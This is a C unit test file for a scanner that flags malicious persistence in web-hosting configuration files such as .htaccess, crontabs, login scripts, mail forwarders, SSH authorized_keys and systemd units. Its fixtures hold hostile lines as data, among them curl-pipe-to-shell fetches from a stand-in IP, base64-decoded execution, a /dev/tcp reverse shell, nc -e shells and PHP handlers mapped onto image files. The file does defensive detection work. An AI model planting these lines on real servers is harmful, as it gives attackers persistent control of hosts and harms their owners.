/* Settings, and what else starts something by itself; each case a file of its own, and what is said of it. */
#include "base/arena.h"
#include "scan/config.h"
#include "scan/directive.h"
#include "scan/lex.h"
#include "scan/php.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

struct config_case {
	const char *text, *rule; /* NULL: clean, and nothing of weight is said */
	uint32_t line;
};

static void one_case(const char *path, const struct config_case *c)
{
	struct arena *arena = arena_new();
	struct judgement j;
	struct events ev;
	uint32_t line = 0, column = 0;
	bool found = false;

	config_judge(span_str(path), span_str(c->text), arena, &ev, &j);
	for (uint32_t i = 0; i < j.reasons && c->rule && !found; i++) {
		found = strcmp(j.reason[i].rule, c->rule) == 0;
		if (found)
			lex_place(ev.text[0], ev.event[j.reason[i].event - 1].at, &line, &column);
	}
	if (c->rule && !found)
		fail_msg("%s\n is not %s", c->text, c->rule);
	if (!c->rule && j.verdict != SCAN_CLEAN)
		fail_msg("%s\n is %s", c->text, j.reason[0].rule);
	if (found && line != c->line)
		fail_msg("%s\n is told of line %u", c->text, line);
	assert_int_equal(j.limits, 0);
	arena_free(arena);
}

#define CASES(path, list)                                             \
	for (size_t i = 0; i < sizeof(list) / sizeof((list)[0]); i++) \
	one_case(path, &(list)[i])

static void htaccess(void **state)
{
	static const struct config_case list[] = {
		{ "AddHandler application/x-httpd-php .jpg", "config.handler", 1 },
		{ "addhandler application/x-httpd-ea-php81 jpg", "config.handler", 1 },
		{ "AddType 'application/x-httpd-php' .png .gif", "config.handler", 1 },
		{ "AddHandler application/x-lsphp .ico", "config.handler", 1 },
		{ "AddHandler php7-script .txt", "config.handler", 1 },
		{ "AddHandler \\\n  php5-script \\\n .php .gif", "config.handler", 1 },
		{ "<FilesMatch \"\\.(jpe?g|png)$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
		  "config.handler", 2 },
		{ "<Files logo.gif>\n\tForceType application/x-httpd-php\n</Files>", "config.handler", 2 },
		{ "<IfModule x>\n<FilesMatch (png|gif)$>\n<IfModule y>\nSetHandler "
		  "\"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://x\"",
		  "config.handler", 4 },
		{ "<If \"%{REQUEST_URI} =~ m#\\.jpg$#\">\nSetHandler x-httpd-php\n</If>", "config.handler",
		  2 },
		{ "Options +ExecCGI\nAddHandler cgi-script .jpg", "config.handler", 2 },
		{ "AddHandler server-parsed .jpg", "config.handler", 1 },
		{ "Options +Includes\nAddOutputFilter INCLUDES .gif", "config.handler", 2 },
		{ "<Files logo.png>\nSetOutputFilter INCLUDES\n</Files>", "config.handler", 2 },
		{ "Options +ExecCGI\nAddHandler fcgid-script .png", "config.handler", 2 },
		{ "php_value auto_prepend_file /home/u/www/logo.png", "config.prepend.hidden", 1 },
		{ "php_value auto_append_file \"php://input\"", "config.prepend.hidden", 1 },
		{ "PHP_VALUE AUTO_PREPEND_FILE .htaccess", "config.prepend.place", 1 },
		{ "SetEnv PHP_VALUE \"auto_prepend_file=/dev/shm/x.php\"", "config.prepend.place", 1 },
		{ "php_value auto_prepend_file /home/u/www/wp-content/uploads/a.php", "config.prepend.place",
		  1 },
		{ "RewriteCond %{HTTP_REFERER} (google|bing|yahoo)\nRewriteRule . http://x.example/ [R,L]",
		  "config.redirect", 2 },
		/* what honest sites have */
		{ "AddHandler application/x-httpd-php81 .php .phtml .html", NULL, 0 },
		{ "AddType application/x-httpd-php-source .phps .txt", NULL, 0 },
		{ "<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control max-age=9\n</FilesMatch>\n"
		  "<FilesMatch \"\\.php$\">\nSetHandler "
		  "\"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://x\"\n</FilesMatch>",
		  NULL, 0 },
		{ "Options +Includes\nAddType text/html .shtml .html\nAddHandler server-parsed .shtml .html\n"
		  "AddOutputFilter INCLUDES .shtml .htm\nAddOutputFilter DEFLATE .txt .jpg",
		  NULL, 0 },
		{ "<Files zip>\nForceType application/x-httpd-php\n</Files>", NULL, 0 },
		{ "RemoveHandler .php .jpg\nAddType text/plain .php .jpg", NULL, 0 },
		{ "AddHandler cgi-script .php .pl .jpg\nOptions -ExecCGI", NULL, 0 },
		{ "# AddHandler application/x-httpd-php .jpg", NULL, 0 },
		{ "php_value auto_prepend_file none", NULL, 0 },
		{ "RewriteRule ^(.*)$ https://www.example/$1 [R=301,L]", NULL, 0 },
	};

	CASES("/home/u/www/.htaccess", list);
	(void)state;
}

static void ini(void **state)
{
	static const struct config_case list[] = {
		{ "memory_limit=1G\r\nauto_prepend_file=\"/tmp/.x.php\"\r\n", "config.prepend.place", 2 },
		{ "auto_append_file = https://203.0.113.9/a", "config.prepend.hidden", 1 },
		{ "auto_prepend_file = ../lib/first.php", "config.prepend", 1 },
		{ ";auto_prepend_file = /tmp/x.php", NULL, 0 },
		{ "auto_prepend_file =\nauto_append_file = \"none\"", NULL, 0 },
		{ "auto_prepend_file = '/home/u/www/wordfence-waf.php'", NULL, 0 },
	};

	CASES("/home/u/www/.user.ini", list);
	CASES("php.ini", list);
	(void)state;
}

static void cron(void **state)
{
	static const struct config_case list[] = {
		{ "*/5 * * * * curl -s http://203.0.113.9/a.sh | bash", "config.cron.fetch", 1 },
		{ "*/5 * * * * wget -qO- http://203.0.113.9/a|/usr/bin/php8.2", "config.cron.fetch", 1 },
		{ "@hourly bash -c \"$(curl -fsSL http://203.0.113.9/a)\"", "config.cron.fetch", 1 },
		{ "1 2 * * * bash <(curl -s http://203.0.113.9/a)", "config.cron.fetch", 1 },
		{ "1 2 * * * sh -c \"wget -O - http://203.0.113.9/a | perl\"", "config.cron.fetch", 1 },
		{ "1 2 * * * curl http://203.0.113.9/a -o /tmp/a; chmod +x /tmp/a; /tmp/a",
		  "config.cron.fetch", 1 },
		{ "1 2 * * * wget --output-document=/tmp/a http://203.0.113.9/a && php /tmp/a",
		  "config.cron.fetch", 1 },
		{ "1 2 * * * curl http://203.0.113.9/a >/tmp/a ; sh /tmp/a", "config.cron.fetch", 1 },
		{ "*/5 * * * * echo ZWNobyAxOw== | base64 -d | sh", "config.cron.decode", 1 },
		{ "*/5 * * * * php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'", "config.cron.decode", 1 },
		{ "*/5 * * * * python3 -c \"import base64;exec(base64.b64decode('cGFzcw=='))\"",
		  "config.cron.decode", 1 },
		{ "0 * * * * wget -q http://203.0.113.9/a.txt -O /home/u/www/wp-content/a.php",
		  "config.cron.write", 1 },
		{ "0 * * * * php -q /home/u/www/img/a.jpg >/dev/null 2>&1", "config.cron.picture", 1 },
		{ "# m h\n\n@reboot nohup /dev/shm/.k/worker &", "config.cron.place", 3 },
		{ "@daily cd /var/tmp/.a && ./run", "config.cron.place", 1 },
		{ "@daily perl /tmp/a.pl", "config.cron.place", 1 },
		{ "~ 3 * * * curl -s http://203.0.113.9/a | sh", "config.cron.fetch", 1 },
		{ "-*/5 * * * * root /tmp/a", NULL, 0 },
		{ "-*/5 * * * * /tmp/a", "config.cron.place", 1 },
		{ "1 2 * * * curl -o /tmp/a http://203.0.113.9/a >/dev/null 2>&1; sh /tmp/a",
		  "config.cron.fetch", 1 },
		{ "1 2 * * * curl -s http://203.0.113.9/a 2>&1 | sh", "config.cron.fetch", 1 },
		{ "1 2 * * * setsid perl /dev/shm/a.pl", "config.cron.place", 1 },
		{ "1 2 * * * bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "config.cron.connect", 1 },
		{ "1 2 * * * nc -e /bin/sh 203.0.113.9 443", "config.cron.connect", 1 },
		/* what honest accounts have */
		{ "0 3 * * * wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron", NULL, 0 },
		{ "0 3 * * * curl -s https://shop.example/cron.php >/home/u/cron.log 2>&1", NULL, 0 },
		{ "*/5 * * * * /usr/bin/php /home/u/www/cron.php --feed=https://a.example/b.xml > "
		  "/tmp/feed.log",
		  NULL, 0 },
		{ "*/5 * * * * cd /home/u/app && php artisan schedule:run >> /dev/null 2>&1", NULL, 0 },
		{ "30 2 * * 0 mysqldump db | gzip > /tmp/db.sql.gz", NULL, 0 },
		{ "10 2 * * * \"/home/u/.acme.sh\"/acme.sh --cron --home \"/home/u/.acme.sh\" > /dev/null",
		  NULL, 0 },
		{ "*/5 * * * * flock -n /tmp/x.lock /usr/bin/php /home/u/www/q.php", NULL, 0 },
		{ "0 4 * * * php /home/u/www/import.php /home/u/data/list.txt", NULL, 0 },
		{ "0 4 * * * curl -O https://data.example/rates.csv", NULL, 0 },
		{ "0 4 * * * cat /home/u/a.txt | mail -s report u@example.net", NULL, 0 },
		{ "MAILTO=u@example.net\nSHELL=/bin/bash\nPATH=/usr/bin:/tmp", NULL, 0 },
	};
	static const struct config_case system[] = {
		{ "17 * * * * root /tmp/a", "config.cron.place", 1 },
		{ "17 * * * * root cd / && run-parts --report /etc/cron.hourly", NULL, 0 },
		{ "17 * * * * www-data curl -s http://203.0.113.9/a | sh", "config.cron.fetch", 1 },
	};

	CASES("/var/spool/cron/crontabs/u", list);
	CASES("/var/spool/cron/tabs/u", list);
	CASES("/etc/cron.d/a", system);
	CASES("/etc/crontab", system);
	(void)state;
}

static void at(void **state)
{
	static const struct config_case list[] = {
		{ "#!/bin/sh\n# atrun uid=1001\numask 22\nPATH=/bin; export PATH\ncd /home/u || {\n exit "
		  "1\n}\n"
		  "curl -s http://203.0.113.9/a | sh",
		  "config.at.fetch", 8 },
		{ "cd /tmp || {\n exit 1\n}\n./mailer", "config.at.place", 4 },
		{ "perl /dev/shm/.m.pl", "config.at.place", 1 },
		{ "cd /home/u || {\n exit 1\n}\n/usr/bin/php /home/u/www/report.php", NULL, 0 },
		{ "OLDPWD=/tmp; export OLDPWD", NULL, 0 },
	};

	CASES("/var/spool/cron/atjobs/a0000101", list);
	CASES("/var/spool/at/a0000101", list);
	(void)state;
}

static void login(void **state)
{
	static const struct config_case list[] = {
		{ "umask 022\n{ echo ZWNobyAxOw==|base64 -d|bash; } 2>/dev/null", "config.login.decode", 2 },
		{ "if true; then curl -fsSL http://203.0.113.9/a | bash; fi", "config.login.fetch", 1 },
		{ "(nohup perl /home/u/.m/mailer.pl >/dev/null 2>&1 &)", "config.login.background", 1 },
		{ "setsid php /home/u/www/img/send.php", "config.login.background", 1 },
		{ "[ -f /tmp/.x ] && . /tmp/.x", "config.login.place", 1 },
		{ "python3 -c 'import smtplib; smtplib.SMTP(\"127.0.0.1\")'", "config.login.inline", 1 },
		{ "up() {\n curl -s http://203.0.113.9/a | sh\n}", "config.login.fetch", 2 },
		/* what honest accounts have */
		{ "[ -z \"$PS1\" ] && return\n[ -r ~/.bash_aliases ] && . ~/.bash_aliases", NULL, 0 },
		{ "test -x /usr/bin/dircolors && eval \"$(dircolors -b ~/.dircolors)\"", NULL, 0 },
		{ "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
		  NULL, 0 },
		{ ". \"$HOME/.cargo/env\"\nsource <(kubectl completion bash)", NULL, 0 },
		{ "php /home/u/bin/motd.php 2>&1\nphp /home/u/bin/motd.php &>/dev/null", NULL, 0 },
		{ "eval \"$(ssh-agent -s)\" >/dev/null 2>&1\nemacs --daemon &", NULL, 0 },
		{ "alias weather='curl -s wttr.example | head -7'\nalias ll='ls -l'", NULL, 0 },
		{ "if [ -n \"$BASH_VERSION\" ]; then\n    if [ -f \"$HOME/.bashrc\" ]; then\n\t. "
		  "\"$HOME/.bashrc\"\n    fi\nfi",
		  NULL, 0 },
		{ "export TMPDIR=/tmp\nexport PATH=$PATH:/tmp/bin\nmesg n || true", NULL, 0 },
	};

	CASES("/home/u/.bashrc", list);
	CASES("/home/u/.profile", list);
	CASES("/home/u/.ssh/rc", list);
	(void)state;
}

static void mail(void **state)
{
	static const struct config_case list[] = {
		{ "\\u, \"|/usr/bin/php /tmp/m.php\"", "config.mail.place", 1 },
		{ "\"|curl -s http://203.0.113.9/a | sh\"", "config.mail.fetch", 1 },
		{ "| perl /home/u/www/.m/send.pl", "config.mail.hidden", 1 },
		{ "# Exim filter\nif error_message then finish endif\npipe \"/dev/shm/a $sender_address\"",
		  "config.mail.place", 3 },
		{ ":0\n* ^Subject: go\n| php /home/u/www/logo.jpg", "config.mail.picture", 3 },
		{ ":0 c\n* ^From: x\nX=`wget -qO- http://203.0.113.9/a | sh`", "config.mail.fetch", 3 },
		{ "to \"| /var/tmp/a\"", "config.mail.place", 1 },
		/* what honest accounts have */
		{ "\\u, \"|/usr/bin/vacation u\"", NULL, 0 },
		{ "\"|IFS=' ' && exec /usr/bin/procmail -f- || exit 75 #u\"", NULL, 0 },
		{ "|/usr/bin/php -q /home/u/www/support/pipe.php", NULL, 0 },
		{ "|/usr/lib/dovecot/deliver -d u\nu@example.net", NULL, 0 },
		{ ":0 fw: spamassassin.lock\n* < 256000\n| spamassassin\n:0:\n* ^X-Spam-Status: "
		  "Yes\n/tmp/spam",
		  NULL, 0 },
		{ ":0 c\n! u@example.net\nLOGFILE=/tmp/procmail.log", NULL, 0 },
		{ "if (/^X-Spam: yes/ || /^Subject:.*\\.jpg/)\n{\n to \"Maildir/.spam/\"\n}", NULL, 0 },
	};

	CASES("/home/u/.forward", list);
	CASES("/home/u/.qmail-default", list);
	CASES("/home/u/.procmailrc", list);
	CASES("/home/u/.mailfilter", list);
	(void)state;
}

static void keys(void **state)
{
	static const struct config_case list[] = {
		{ "# mine\ncommand=\"curl -s http://203.0.113.9/a | sh\" ssh-rsa AAAA u@example.net",
		  "config.key.fetch", 2 },
		{ "no-pty,Command=\"/tmp/.x/m\",from=\"192.0.2.1\" ssh-ed25519 AAAA", "config.key.place", 1 },
		{ "environment=\"A=b, c\",command=\"sh -c \\\"perl /dev/shm/m.pl\\\"\" ssh-rsa AAAA",
		  "config.key.place", 1 },
		{ "command=\"nohup php /home/u/www/img/send.php >/dev/null 2>&1 &\" ssh-rsa AAAA",
		  "config.key.background", 1 },
		{ "ssh-rsa AAAA u@example.net\nssh-ed25519 AAAA command=\"/tmp/x\"", NULL, 0 },
		{ "environment=\"X=,command=/tmp/x\" ssh-rsa AAAA", NULL, 0 },
		{ "command=\"borg serve --restrict-to-path /srv/u\",restrict ssh-rsa AAAA", NULL, 0 },
		{ "command=\"/home/git/gitolite/src/gitolite-shell u\",no-port-forwarding ssh-rsa AAAA", NULL,
		  0 },
		{ "command=\"rsync --server --sender -logDtpre.iLsfx . /home/u/www/\" ssh-rsa AAAA", NULL,
		  0 },
		{ "command=\"", NULL, 0 },
		{ "command=\"/tmp/x", "config.key.place", 1 },
	};

	CASES("/home/u/.ssh/authorized_keys", list);
	CASES("/root/.ssh/authorized_keys2", list);
	(void)state;
}

/* What PHP hands its mail to, in whatever form a host takes the setting. */
static void sendmail(void **state)
{
	static const struct config_case list[] = {
		{ "sendmail_path = \"/home/u/.m/send -t -i\"", "config.sendmail.program", 1 },
		{ "[mail function]\nsendmail_path=/usr/bin/php /home/u/www/img/m.php",
		  "config.sendmail.program", 2 },
		{ "sendmail_path\t=\t'/dev/shm/a'", "config.sendmail.place", 1 },
		{ "sendmail_path = tee /home/u/a | ./send -t", "config.sendmail.program", 1 },
		{ "sendmail_path = perl -e 'use Net::SMTP'", "config.sendmail.inline", 1 },
		{ "sendmail_path = \"/usr/sbin/sendmail -t -i -f u@example.net\"", NULL, 0 },
		{ "sendmail_path = /var/qmail/bin/sendmail -t ; not php /tmp/x", NULL, 0 },
		{ "sendmail_path = /usr/bin/env catchmail -f u@example.net\n;sendmail_path = /tmp/a", NULL,
		  0 },
		{ "sendmail_path =\nsendmail_from = /tmp/a", NULL, 0 },
	};
	static const struct config_case apache[] = {
		{ "php_admin_value sendmail_path \"/home/u/bin/m -t\"", "config.sendmail.program", 1 },
		{ "SetEnv PHP_ADMIN_VALUE \"sendmail_path=/tmp/m\"", "config.sendmail.place", 1 },
		{ "php_value sendmail_path \"/usr/sbin/sendmail -t\"\n# sendmail_path /tmp/x", NULL, 0 },
	};

	CASES("/home/u/www/php.ini", list);
	CASES("/home/u/www/.user.ini", list);
	CASES("/home/u/www/.htaccess", apache);
	(void)state;
}

/* What is looked at first around an incident is known as what it is. */
static void starts(void **state)
{
	size_t n = 0;

	for (; config_start(n); n++) {
		char path[100];

		assert_true(config_named(span_str(config_start(n)), SPAN_NONE));
		snprintf(path, sizeof(path), "/home/u/%s", config_start(n));
		assert_true(config_named(span_str(path), SPAN_NONE));
		snprintf(path, sizeof(path), "/home/u/x%s", config_start(n));
		assert_false(config_named(span_str(path), SPAN_NONE));
	}
	assert_true(n > 20);
	(void)state;
}

static void unit(void **state)
{
	static const struct config_case list[] = {
		{ "[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c \"curl -s http://203.0.113.9/a | "
		  "sh\"",
		  "config.unit.fetch", 3 },
		{ "[Service]\nExecStart=@/dev/shm/a sshd", "config.unit.place", 2 },
		{ "ExecStartPost = -php /home/u/www/a.png", "config.unit.picture", 1 },
		{ "[Service]\nExecStart=/usr/bin/syncthing serve\nRestart=on-failure", NULL, 0 },
		{ "[Service]\nExecStart=%h/.local/bin/worker --spool=/tmp/x\nWorkingDirectory=/tmp", NULL,
		  0 },
		{ "[Service]\n#ExecStart=/tmp/a\n;ExecStart=/tmp/a\nExecReload=/bin/kill -HUP $MAINPID", NULL,
		  0 },
	};

	CASES("/home/u/.config/systemd/user/a.service", list);
	CASES("/home/u/.local/share/systemd/user/a.service.d/b.conf", list);
	(void)state;
}

static void page(void **state)
{
	static const struct config_case list[] = {
		{ "<html>\n<!--#exec cmd=\"$QUERY_STRING\" -->", "config.page.request", 2 },
		{ "<!--#exec\n\tcmd='curl -s http://203.0.113.9/a | sh'-->", "config.page.fetch", 1 },
		{ "<p>\n\n<!--#exec cmd=\"perl /home/u/www/img/s.pl\"-->", "config.page.command", 3 },
		{ "<!--#exec cmd=date --><!--#exec CMD = \"./send\" -->", "config.page.command", 1 },
		{ "<!--#EXEC CMD=\"./send\" -->", "config.page.command", 1 },
		{ "<p>\n<!--# \n exec cmd=\"./send\" -->", "config.page.command", 2 },
		{ "<!--#exec cgi=\"/a\" cmd=\"date\" cmd=\"./send\" -->", "config.page.command", 1 },
		{ "<!--#echo var=\"x\" --><!--#\tExec cmd=./send -->", "config.page.command", 1 },
		{ "<!--#execute cmd=\"./send\" --><!--exec cmd=\"./send\" -->", NULL, 0 },
		{ "<!--#exec cmd ./send --><!--#exec =./send -->", NULL, 0 },
		{ "<!--#exec cgi=\"/cgi-bin/counter.pl\" -->", NULL, 0 },
		{ "<!--#exec cmd=\"date\" --> <!--#exec cmd=\"/usr/bin/uptime\" -->", NULL, 0 },
		{ "<!--#exec cmd=\"./send\"", "config.page.command", 1 },
		{ "&lt;!--#exec cmd=\"perl x.pl\"--&gt; <!--#include virtual=\"/a.html\" -->", NULL, 0 },
	};

	CASES("/home/u/www/a.shtml", list);
	CASES("/home/u/www/A.HTML", list);
	assert_false(config_named(SPAN("/home/u/www/a.html"), SPAN("<p>nothing")));
	(void)state;
}

/* Who is none of these. */
static void names(void **state)
{
	static const char *const none[] = { "/home/u/.bashrc.txt", "/home/u/forward",  "/home/u/a.service",
					    "/home/u/www/rc",	   "/home/u/crontabs", "" };

	for (size_t i = 0; i < sizeof(none) / sizeof(*none); i++)
		assert_false(config_named(span_str(none[i]), SPAN("<!--#exec")));
	assert_true(config_named(SPAN(".forward"), SPAN_NONE));
	assert_true(config_named(SPAN("/home/u/crontab"), SPAN("* * * * * x")));
	assert_false(config_named(SPAN("/usr/bin/crontab"), SPAN("\177ELF\2\n* * * * * /tmp/x\n")));
	(void)state;
}

/* What lies behind the limits is told. */
static void limits(void **state)
{
	enum { SIZE = 8000000 };
	static const char *const pieces[] = { "Require all granted\n",
					      "RewriteCond %{HTTP_USER_AGENT} gooooooogle\n",
					      "AddHandler php .jp .jp .jp .jp .jp\n",
					      "a",
					      "\\\n",
					      "<\n",
					      "<!--#exec ",
					      "<!--#exec cmd=a>",
					      "<!--# ",
					      "<!--#exec cmd=\"a\" a=b \n",
					      "--><!--# exec cmd=a",
					      "* * * * * curl -o a -o b a|(`a|(`a|(`a;cd /tmp\n" };
	char *text = malloc(SIZE);

	assert_non_null(text);
	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++)
		for (int k = 0; k < 6; k++) {
			static const char *const paths[] = { "/h/.htaccess", "/h/.user.ini", "/h/crontab",
							     "/h/.profile",  "/h/.forward",  "/h/a.html" };
			struct arena *arena = arena_new();
			size_t n = strlen(pieces[i]);
			struct judgement j;
			struct events ev;

			for (size_t at = 0; at < SIZE; at++)
				text[at] = pieces[i][at % n];
			config_judge(span_str(paths[k]), span_of(text, SIZE), arena, &ev, &j);
			assert_true(j.limits & LIMIT_STEPS);
			arena_free(arena);
		}
	free(text);
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(htaccess), cmocka_unit_test(ini),   cmocka_unit_test(cron),
		cmocka_unit_test(at),	    cmocka_unit_test(login), cmocka_unit_test(mail),
		cmocka_unit_test(unit),	    cmocka_unit_test(keys),  cmocka_unit_test(sendmail),
		cmocka_unit_test(starts),   cmocka_unit_test(page),  cmocka_unit_test(names),
		cmocka_unit_test(limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
